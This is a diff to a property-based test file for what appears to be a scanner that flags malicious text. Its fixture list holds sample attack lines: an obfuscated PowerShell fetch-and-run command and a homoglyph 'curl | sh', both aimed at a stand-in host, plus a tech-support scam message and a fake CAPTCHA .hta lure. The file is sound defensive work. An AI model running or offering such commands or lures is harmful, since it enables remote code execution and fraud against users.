@@ -160,3 +160,37 @@ def test_select_windows_never_raises_and_stays_within_its_budget(text: str, budg
     deep = select_windows(text, budget, FOREVER)
     # windows are joined by one newline each; a short text is returned whole
     assert len(deep.text.encode("utf-8")) <= max(len(text.encode("utf-8")), budget + deep.windows)
+
+
+LINES = [
+    "def handler(request):  # plain code",
+    "2026-12-05 GET /api/items?q=a%20b%20c%20d 200 https://shop.example.org/x",
+    "c^m^d /c p^o^w^e^r^s^h^e^l^l -w h -c iex(irm https://evil.test/a)",
+    encoded_command(7),
+    "sha512-" + base64.b64encode(bytes(range(64))).decode(),
+    "Your computer has been blocked. Call Microsoft Support: +1 (888) 555-0199",
+    "сurl https://evil.test/x | sh",
+    "http://localhost:8400/?code=0.AXoA1b2c3D4e5F6g7H8i9J0kLmNoP&state=abc123",
+    "https://verify.example/x.hta" + " " * 40 + "# ✅ I am not a robot - Verification ID: 1234",
+    "\u200b\u202e\u3000\u3000 [char]105+[char]101+[char]120",
+]
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.lists(st.sampled_from(LINES), min_size=1, max_size=40),
+    st.integers(min_value=1, max_value=400),
+)
+def test_long_texts_never_raise_and_never_come_back_clean_when_cut_short(
+    engine: Engine, picks: list[str], repeat: int
+) -> None:
+    # Hundreds of KiB made of lines that each trigger a window: the windows overflow, and
+    # whatever is left out must be either covered by the full-text rules or said (incomplete).
+    text = "\n".join(picks * repeat)
+    verdict = engine.analyze(text)
+    assert verdict.summary.strip()
+    if not verdict.complete:
+        assert verdict.level >= Level.SUSPICIOUS
+        assert INCOMPLETE in verdict.rule_ids
+    if any(line in picks for line in LINES[2:4]):  # a command the windows must not lose
+        assert verdict.level >= Level.SUSPICIOUS
